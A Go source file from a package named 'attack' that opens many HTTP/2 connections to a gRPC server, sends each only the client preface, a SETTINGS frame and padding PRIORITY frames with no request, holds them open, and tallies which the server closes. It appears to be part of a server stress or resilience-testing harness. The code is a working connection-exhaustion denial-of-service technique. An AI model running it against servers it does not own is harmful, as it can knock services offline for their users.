package attack

import (
	"bytes"
	"context"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// priorityFrameSize is one PRIORITY frame on the wire: a 9-byte header and
// a 5-byte payload.
const priorityFrameSize = 9 + 5

// undecided opens Attackers connections to the gRPC port that each send
// the client preface, a SETTINGS frame and PriorityBytes of PRIORITY frames
// and never a request, so a server that picks a connection's handler by its
// first call has nothing to pick by; it holds them until the attack ends,
// reading the little the server sends, and counts those the server closed,
// and when.
func undecided(ctx context.Context, e *env) {
	preamble, frames := undecidedPreamble(e.o.PriorityBytes)
	conns := e.openMany(ctx, e.o.Attackers, "undecided", e.srv.grpcAddr, slowReadBuffer, preamble)
	var wg sync.WaitGroup
	for _, h := range conns {
		wg.Go(func() { watchClose(h, 512, 0) })
	}
	<-ctx.Done()
	for _, h := range conns {
		h.conn.Close() // ends the watchers
	}
	wg.Wait()
	var (
		closed      int64
		first, last time.Duration
	)
	for _, h := range conns {
		if !h.closed.Load() {
			continue
		}
		after := time.Duration(h.closedAfter.Load())
		if closed == 0 || after < first {
			first = after
		}
		last = max(last, after)
		closed++
	}
	if closed > 0 {
		e.tally.add("undecided: closed by the server", closed)
	}
	if held := int64(len(conns)) - closed; held > 0 {
		e.tally.add("undecided: held open to the end", held)
	}
	e.note("%d connections opened, each sending %d bytes (the preface, SETTINGS and %d PRIORITY frames, no request): %.1f MB in all",
		len(conns), len(preamble), frames, float64(len(conns)*len(preamble))/1e6)
	if closed > 0 {
		e.note("%d closed by the server, the first %.1f s and the last %.1f s after it was opened; %d held open to the end",
			closed, first.Seconds(), last.Seconds(), int64(len(conns))-closed)
	} else {
		e.note("none closed by the server: all %d held open to the end", len(conns))
	}
}

// undecidedPreamble is what each undecided connection sends: the client
// preface, an empty SETTINGS frame and priorityBytes of PRIORITY frames
// (at least one), each on stream 1 depending on nothing; it returns the
// bytes and the number of PRIORITY frames.
func undecidedPreamble(priorityBytes int) ([]byte, int) {
	var b bytes.Buffer
	b.WriteString(http2.ClientPreface)
	fr := http2.NewFramer(&b, nil)
	n := max(1, priorityBytes/priorityFrameSize)
	// Neither write can fail: the ids are valid and a buffer takes
	// everything.
	_ = fr.WriteSettings()
	for range n {
		_ = fr.WritePriority(1, http2.PriorityParam{Weight: 15})
	}
	return b.Bytes(), n
}
